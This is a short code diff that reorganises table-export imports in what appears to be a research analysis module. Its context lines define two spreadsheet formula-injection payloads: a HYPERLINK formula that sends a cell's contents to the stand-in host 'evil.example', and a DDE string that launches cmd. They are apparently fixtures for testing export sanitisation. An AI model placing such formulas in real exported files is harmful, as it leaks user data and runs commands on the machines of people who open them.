@@ -22,7 +22,8 @@ from mixed.comparison import case_comparison
 from mixed.joint import joint_display, joint_long
 from mixed.themes import themes_display, themes_long
 from quant.cases.typical_deviant import city_residual_from_dyads
-from report.tables import export_table, regression_table
+from report.table_export import export_table
+from report.tables import regression_table
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
 DDE = "+cmd|' /C calc'!A0"
